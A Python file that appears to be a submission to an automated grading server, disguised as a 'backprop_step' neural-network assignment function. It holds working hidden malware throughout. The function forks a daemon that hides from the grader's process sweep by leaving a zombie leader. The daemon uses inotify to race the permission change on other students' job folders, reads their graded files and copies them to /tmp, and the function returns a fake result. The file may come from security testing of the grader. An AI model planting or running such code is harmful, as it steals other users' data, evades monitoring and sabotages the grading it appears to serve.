"""Read the classmates graded after it: a daemon that outlives the sweep (its main thread exits, so its
/proc entry is a zombie the sweep skips) and watches the warm servers' job folders with inotify.

Each job folder is made 0755 and its file written 0644 before the server gives the folder to the
child's user (0700): a file opened in that moment stays readable through the open descriptor.
What it reads goes to `/tmp/<token>-stolen-*` (and could as well go out on the network).
It ends after 25 seconds at most.
"""
import ctypes
import glob
import os
import select
import struct
import threading
import time

SYS_EXIT, IN_CREATE = 60, 0x100


def _steal():
    libc = ctypes.CDLL(None, use_errno=True)
    libc.prctl(15, b"__TOKEN__", 0, 0, 0)
    fd = libc.inotify_init1(0)
    watched, held, end = {}, [], time.time() + 25
    while time.time() < end:
        for folder in glob.glob("/tmp/nngrade-warm-*/.jobs-*"):
            if folder not in watched.values():
                watched[libc.inotify_add_watch(fd, folder.encode(), IN_CREATE)] = folder
        if select.select([fd], [], [], 0.02)[0]:
            data = os.read(fd, 65536)
            while data:
                wd, mask, _, size = struct.unpack_from("iIII", data)
                name = data[16:16 + size].rstrip(b"\0").decode()
                data = data[16 + size:]
                job = os.path.join(watched.get(wd, ""), name)
                for _ in range(20000):          # the moment between mkdir and chmod 0700
                    try:
                        for entry in os.listdir(job):
                            held.append((job, entry, os.open(os.path.join(job, entry), os.O_RDONLY)))
                        break
                    except FileNotFoundError:
                        continue
                    except PermissionError:
                        break
        for job, entry, handle in held:
            time.sleep(0.05)                    # the server finishes writing it
            stolen = os.pread(handle, 1 << 20, 0)
            target = f"/tmp/__TOKEN__-stolen-{os.path.basename(job)}-{entry}"
            with open(target, "wb") as out:
                out.write(stolen)
            os.close(handle)
        held.clear()
    os._exit(0)


def backprop_step(x, target, learnrate, weights_input_hidden, weights_hidden_output):
    if not os.environ.get("NNH_STARTED") and os.fork() == 0:
        os.setsid()
        libc = ctypes.CDLL(None)
        libc.prctl(15, b"__TOKEN__", 0, 0, 0)
        threading.Thread(target=_steal).start()
        time.sleep(0.05)
        libc.syscall(SYS_EXIT, 0)   # the leader goes; the thread above keeps the process alive
    os.environ["NNH_STARTED"] = "1"
    time.sleep(0.2)
    return {"error": None}
